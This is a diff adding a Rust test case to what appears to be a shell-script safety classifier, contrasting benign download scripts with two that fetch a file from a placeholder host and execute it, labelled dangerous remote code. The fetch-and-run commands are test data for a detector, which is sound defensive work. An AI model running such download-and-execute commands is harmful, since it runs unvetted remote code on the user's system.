@@ -6644,3 +6644,53 @@ fn red26_values_through_less_common_shapes() {
     ];
     check_all(rows);
 }
+
+/// A download and a program run are one file only where they can be: a response thrown away
+/// (`-o /dev/null`) or saved under a data extension runs nothing, a known program name in a
+/// directory built at run time is that program, and an archive unpacked into a known directory
+/// holds only what lies under it. Each twin runs what was fetched.
+#[test]
+fn downloads_and_runs_that_cannot_be_one_file() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Sh,
+            "set -eu\nWORK=\"$(mktemp -d)\"\ntrap 'rm -rf \"$WORK\"' EXIT\n\
+             curl -fsS -o /dev/null -w '%{http_code}' https://pypi.org/simple/build/\n\
+             python3 -m venv \"$WORK/venv$1\"\n\"$WORK/venv$1/bin/pip\" install --quiet build\n",
+            Clean,
+            "",
+        ),
+        (
+            Sh,
+            "set -eu\nWORK=\"$(mktemp -d)\"\n\
+             curl -fsSL https://pypi.org/pypi/build/json -o \"$WORK/$1.json\"\n\
+             python3 -m venv \"$WORK/venv\"\n\"$WORK/venv/bin/pip\" install --quiet build\n",
+            Clean,
+            "",
+        ),
+        (
+            Sh,
+            "set -eu\nWORK=\"$(mktemp -d)\"\n\
+             curl -fsSL https://tools.fetchbox.example.net/t -o \"$WORK/$1\"\n\
+             chmod +x \"$WORK/$1\"\n\"$WORK/$1\" --init\n",
+            Dangerous,
+            "remote-code",
+        ),
+        (
+            Sh,
+            "set -eu\ncurl -fsSL https://docs.python.org/3/archives/docs.zip -o /tmp/docs.zip\n\
+             unzip -o -q /tmp/docs.zip -d /tmp/pydocs\nWORK=\"$(mktemp -d)\"\n\
+             python3 -m venv \"$WORK/venv\"\n\"$WORK/venv/bin/pip\" install --quiet build\n",
+            Clean,
+            "",
+        ),
+        (
+            Sh,
+            "set -eu\ncurl -fsSL https://tools.fetchbox.example.net/t.zip -o /tmp/t.zip\n\
+             unzip -o -q /tmp/t.zip -d /tmp/tbox\n/tmp/tbox/bin/setup --all\n",
+            Dangerous,
+            "remote-code",
+        ),
+    ];
+    check_all(rows);
+}
